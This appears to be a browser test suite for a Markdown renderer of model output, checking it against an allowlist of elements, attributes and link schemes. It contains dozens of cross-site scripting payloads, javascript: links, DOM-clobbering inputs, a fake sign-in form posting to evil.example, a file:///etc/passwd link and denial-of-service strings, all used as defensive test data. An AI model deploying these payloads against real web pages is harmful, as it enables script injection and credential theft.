// What models write is hostile: whatever it is, it becomes elements of a short list, with attributes of a short list, and asks nobody
// for anything.
import assert from "node:assert/strict";
import { test } from "../../../browser/browser.js";
import { random } from "../parts/random.js";
import { stage } from "../parts/stage.js";

// All that Markdown is made of: elements and their attributes.
const allowed = {
  div: ["class", "role", "aria-label", "tabindex"], p: ["dir", "class"], h3: ["dir", "class"], h4: ["dir", "class"], h5: ["dir", "class"], h6: ["dir", "class"],
  ul: ["class"], ol: ["class", "start"], li: ["class"], blockquote: [], hr: [], br: [], em: [], strong: [], del: [], code: ["class"],
  pre: ["tabindex", "aria-label"], figure: ["class"], figcaption: [], button: ["type", "class", "aria-label"], span: ["class", "role", "aria-label", "aria-live"],
  table: [], thead: [], tbody: [], tr: [], th: ["scope", "dir", "class"], td: ["dir", "class"],
  a: ["href", "title", "target", "rel", "referrerpolicy"],
}; // prettier-ignore

const classes = /^(?:md(?:-[a-z0-9]+)?|part-quiet|sr)$/;

// What is in the page for a text, as far as it may not be.
function inspect([allowed, classes]) {
  const wrong = [];
  for (const element of document.querySelector("#stage").querySelectorAll("*")) {
    const name = element.localName;
    if (element.namespaceURI !== "http://www.w3.org/1999/xhtml") wrong.push(`${name} of ${element.namespaceURI}`);
    if (!(name in allowed)) wrong.push(name);
    for (const { name: attribute, value } of element.attributes) {
      if (!allowed[name]?.includes(attribute)) wrong.push(`${name} ${attribute}=${value}`);
      if (attribute === "class" && !value.split(" ").every((c) => new RegExp(classes).test(c))) wrong.push(`class ${value}`);
      if (attribute === "href") {
        const url = new URL(value);
        if (!["https:", "http:", "mailto:"].includes(url.protocol) || url.origin === location.origin || url.username) wrong.push(`href ${value}`);
        if (element.rel !== "noopener noreferrer nofollow ugc" || element.target !== "_blank") wrong.push(`a without rel: ${element.outerHTML}`);
      }
    }
  }
  if (window.pwned) wrong.push("a script ran");
  if (document.querySelector("#stage").shadowRoot) wrong.push("a shadow root");
  return { wrong, text: document.querySelector("#stage").textContent, links: [...document.querySelectorAll("#stage a")].map((a) => a.href) };
}

const payload = "window.pwned=1";
const cases = {
  "a script": `<script>${payload}</script>`,
  "a script with a source": `<script src="https://evil.example/x.js"></script>`,
  "a script in pieces": `<scr<script>ipt>${payload}</scr</script>ipt>`,
  "a script in capitals": `<SCRIPT>${payload}</SCRIPT >`,
  "a module": `<script type="module">${payload}</script>`,
  "an image that fails": `<img src=x onerror="${payload}">`,
  "an image without quotes": `<img src=x onerror=${payload}//`,
  "an image from elsewhere": `<img src="https://evil.example/pixel.png">`,
  "a set of images": `<img srcset="https://evil.example/a.png 1x">`,
  "an image of Markdown": "![x](https://evil.example/pixel.png)",
  "an image whose text breaks out": '![x" onerror="window.pwned=1](https://evil.example/a.png)',
  "an image with a data address": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "an svg": `<svg onload="${payload}"><script>${payload}</script></svg>`,
  "an svg that animates": `<svg><animate onbegin=${payload} attributeName=x dur=1s>`,
  "an svg with foreign content": `<svg><foreignObject><iframe src="javascript:${payload}"></foreignObject></svg>`,
  "an svg that uses": `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
  "math": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
  "math with a link": `<math href="javascript:${payload}">x</math>`,
  "a frame": `<iframe src="https://evil.example"></iframe>`,
  "a frame with a document": `<iframe srcdoc="<script>parent.${payload}</script>"></iframe>`,
  "an object": `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">`,
  "a form": `<form action="https://evil.example"><input name=password autofocus><button>Sign in</button></form>`,
  "a form for a button elsewhere": `<button form=f formaction="javascript:${payload}">x</button>`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  "a base": `<base href="https://evil.example/">`,
  "a style": `<style>*{display:none}@import url(https://evil.example/x.css)</style>`,
  "a style sheet": `<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/y">`,
  "a style attribute": `<div style="position:fixed;inset:0;background:url(https://evil.example/a)">x</div>`,
  "ids that clobber": `<a id=stage></a><form id=location><input name=href></form><img name=body><a name=getElementById>`,
  "an id by a heading": "# stage {#stage}\n\n[x]{#location}",
  "video and audio": `<video src="https://evil.example/v" onloadstart=${payload} autoplay></video><audio src=x onerror=${payload}>`,
  "details": `<details open ontoggle=${payload}><summary>x</summary></details>`,
  "a marquee": `<marquee onstart=${payload}>x</marquee>`,
  "a body": `<body onload=${payload}><html onclick=${payload}>`,
  "a template": `<template><script>${payload}</script></template>`,
  "a shadow root": `<div><template shadowrootmode=open><script>${payload}</script></template></div>`,
  "a comment that ends": `<!--><img src=x onerror=${payload}>-->`,
  "a CDATA section": `<![CDATA[<img src=x onerror=${payload}>]]>`,
  "a processing instruction": `<?xml version="1.0"?><?php echo 1 ?>`,
  "noscript": `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
  "a text area that ends": `<textarea></textarea><img src=x onerror=${payload}></textarea>`,
  "a title that ends": `<title></title><img src=x onerror=${payload}></title>`,
  "a plain text": "<plaintext>x",
  "entities of a script": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
  "a dialog and a popover": `<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>`,
  "a slot and custom elements": `<slot name=x></slot><x-evil></x-evil>`,
  "attributes that are inherited": `<div contenteditable accesskey=x draggable=true inert hidden>x</div>`,
  "javascript in a link": "[x](javascript:window.pwned=1)",
  "javascript in capitals": "[x](JaVaScRiPt:window.pwned=1)",
  "javascript with entities": "[x](&#106;avascript:window.pwned=1) [y](javascript&colon;window.pwned=1) [z](java&Tab;script:window.pwned=1)",
  "javascript with a tab": "[x](<java\tscript:window.pwned=1>)",
  "javascript with escapes": "[x](javascript\\:window.pwned=1)",
  "javascript behind a control": "[x](\u0001javascript:window.pwned=1)",
  "javascript in angle brackets": "<javascript:window.pwned=1>",
  "javascript in an image": "![x](javascript:window.pwned=1)",
  "javascript by a reference": "[x][1]\n\n[1]: javascript:window.pwned=1",
  "javascript behind a slash": "[x](javascript://example.com/%0awindow.pwned=1)",
  "vbscript, data, blob, file, about": "[a](vbscript:x) [b](data:text/html,<script>window.pwned=1</script>) [c](blob:https://e.com/x) [d](file:///etc/passwd) [e](about:blank)",
  "a title that breaks out": `[x](https://e.com/ "\\" onmouseover=\\"window.pwned=1")`,
  "an address that breaks out": `[x](https://e.com/"onmouseover="window.pwned=1)`,
  "an address with a tag in it": "[x](https://e.com/<script>window.pwned=1</script>)",
  "an address as it stands with a tag in it": `https://e.com/"><img src=x onerror=window.pwned=1>`,
  "a link to this server": "[x](/v1/runs?workflow=chat&input=x) [y](http://127.0.0.1:9/v1/runs) [z](?x) [a](#stage)",
  "a link without a scheme": "[x](//evil.example) [y](\\\\evil.example) [z](/\\evil.example)",
  "a link that hides its host": "[https://bank.example](https://bank.example@evil.example/)",
  "a mail to many": "[x](mailto:a@b.c?bcc=d@e.f&body=x) <mailto:a@b.c,d@e.f>",
  "the language of code": "```\"><script>window.pwned=1</script>\nx\n```\n\n```js onerror=x class=stage\ny\n```",
  "cells of a table": "|<script>window.pwned=1</script>|[x](javascript:window.pwned=1)|\n|-|-|\n|<img src=x onerror=window.pwned=1>|`<b>`|",
  "a number that is too large": "999999999. x\n\n9999999999999. y",
  "names of the prototype": "[__proto__](constructor) ![toString](hasOwnProperty) &constructor; &__proto__;\n\n```__proto__\nx\n```",
  "controls and what turns the direction": "a\u202eb\u0000c\u0008 \u2066[x\u202e](https://e.com/)\u2069",
  "lone surrogates": "\ud800 [\udc00](https://e.com/\ud800) **\udfff**",
  "a word of a megabyte": "x".repeat(1 << 20),
  "quotes without end": ">".repeat(100_000),
  "brackets without end": "[".repeat(100_000),
  "stars without end": "*".repeat(100_000),
  "backticks without end": "`a".repeat(100_000),
  "emphasis without end": "*a _b ".repeat(20_000) + "b_ a* ".repeat(20_000),
  "links without end": "[a](https://e.com) ".repeat(20_000),
  "lists without end": "- ".repeat(100_000),
  "elements without end": "-\n".repeat(100_000),
  "rows without end": "|a|b|\n|-|-|\n" + "|c|d|\n".repeat(50_000),
  "columns without end": "|a".repeat(50_000) + "\n" + "|-".repeat(50_000),
  "combining marks without end": "a" + "\u0301".repeat(100_000),
};

test(`hostile Markdown: ${Object.keys(cases).length} texts`, async (t) => {
  const page = await stage(t);
  for (const [name, text] of Object.entries(cases)) {
    await page.evaluate((text) => {
      stage.clear();
      // As it comes: in pieces, as if more were to follow, and then as it is.
      for (const part of [0.3, 0.77, 1]) stage.show("Markdown", { text: text.slice(0, text.length * part), growing: true });
      stage.show("Markdown", { text });
    }, text);
    const { wrong, text: shown } = await page.evaluate(inspect, [allowed, classes.source]);
    assert.deepEqual(wrong, [], name);
    assert.ok(shown.length > 0, `${name}: nothing is shown`);
  }
  assert.equal(await page.evaluate(() => document.title + location.pathname), "A part/stage");
});

test("hostile Markdown: any mixture of it, as it comes and when it has come", async (t) => {
  const page = await stage(t);
  const bits = [..."<>[]()!*_~`#|\\\"'&;:/- \n\t\0", "<script>", "</script>", "<img src=x onerror=window.pwned=1>", "javascript:window.pwned=1", "](javascript:window.pwned=1)", "](https://e.com/", "](data:text/html,x)", "![", "```", "<svg onload=window.pwned=1>", "&lt;", "&#x3c;", "https://e.com/", "<https://e.com>", "<!--", "-->", "|-|-|\n", "\n\n", "> ", "- ", "1. ", "<a href=x>", "id=stage", "style=x", "\u202e", "😀", "\ud800", "text"];
  const r = random(77);
  const texts = Array.from({ length: 600 }, () => Array.from({ length: 1 + r(40) }, () => bits[r(bits.length)]).join(""));
  const wrong = await page.evaluate(
    ([texts, inspect, limits]) => {
      const look = new Function(`return ${inspect}`)();
      const wrong = [];
      for (const text of texts) {
        stage.clear();
        for (let at = 1; at < text.length; at += 7) stage.show("Markdown", { text: text.slice(0, at), growing: true });
        wrong.push(...look(limits).wrong);
        stage.show("Markdown", { text });
        const grown = document.querySelector("#stage").innerHTML;
        wrong.push(...look(limits).wrong);
        stage.clear();
        stage.show("Markdown", { text });
        if (document.querySelector("#stage").innerHTML !== grown) wrong.push(`is another when it has grown: ${JSON.stringify(text)}`);
      }
      return wrong;
    },
    [texts, inspect.toString(), [allowed, classes.source]],
  );
  assert.deepEqual(wrong, []);
});

test("what HTML says is shown as it was written", async (t) => {
  const page = await stage(t);
  for (const text of [cases["a script"], cases["a form"], cases["ids that clobber"], cases["a template"]]) {
    await page.show("Markdown", { text });
    assert.equal(await page.locator("#stage").textContent(), text);
  }
});

test("a click on what is no link does nothing, and a link says where it goes", async (t) => {
  const page = await stage(t);
  await page.show("Markdown", { text: "[bad](javascript:window.pwned=1) [good](https://example.com/path?q) [](https://nameless.example/)" });
  await page.getByText("bad").click();
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(await page.locator("#stage").textContent(), "bad (javascript:window.pwned=1) good example.com https://nameless.example/ nameless.example");
  assert.equal(await page.locator("a").first().getAttribute("title"), "https://example.com/path?q");
});

test("a word of a megabyte wraps", async (t) => {
  for (const width of [360, 1200]) {
    const page = await stage(t, undefined, { viewport: { width, height: 700 } });
    for (const text of ["x".repeat(1 << 20), "`" + "x".repeat(5000) + "`", "# " + "x".repeat(5000), "- " + "x".repeat(5000), "https://e.com/" + "x".repeat(1500), "|" + "x".repeat(3000) + "|b|\n|-|-|", "> ".repeat(40) + "x".repeat(3000), "```\n" + "x".repeat(5000) + "\n```"]) {
      await page.show("Markdown", { text });
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), text.slice(0, 20));
    }
  }
});

test("only what has changed renders: settled blocks keep their elements, and their texts are not touched", async (t) => {
  const page = await stage(t);
  const touched = await page.evaluate(async () => {
    const blocks = Array.from({ length: 300 }, (_, i) => (i % 3 === 0 ? `## Part ${i}\n\n` : i % 3 === 1 ? `- one *two* ${i}\n- three\n\n` : `A text with \`code\` and [a link](https://e.com/${i}).\n\n`));
    const all = blocks.join("");
    stage.show("Markdown", { text: "", growing: true });
    const before = stage.described;
    const changed = [];
    const observer = new MutationObserver((records) => changed.push(...records));
    observer.observe(document.querySelector("#stage"), { childList: true, characterData: true, attributes: true, subtree: true });
    for (let at = 0; at < all.length; at += 20) {
      stage.show("Markdown", { text: all.slice(0, at), growing: true });
    }
    stage.show("Markdown", { text: all });
    await new Promise((resolve) => setTimeout(resolve));
    observer.disconnect();
    return { described: stage.described - before, changes: changed.length, elements: document.querySelectorAll("#stage *").length, updates: all.length / 20 };
  });
  // An update describes its last block, and the groups and blocks that it is among: not the 300 blocks of the whole.
  assert.ok(touched.described < 60 * touched.updates, JSON.stringify(touched));
  // Every element comes once and is finished once; beside that, an update changes no more than its last block.
  assert.ok(touched.changes < 3 * touched.elements + 3 * touched.updates, JSON.stringify(touched));
});
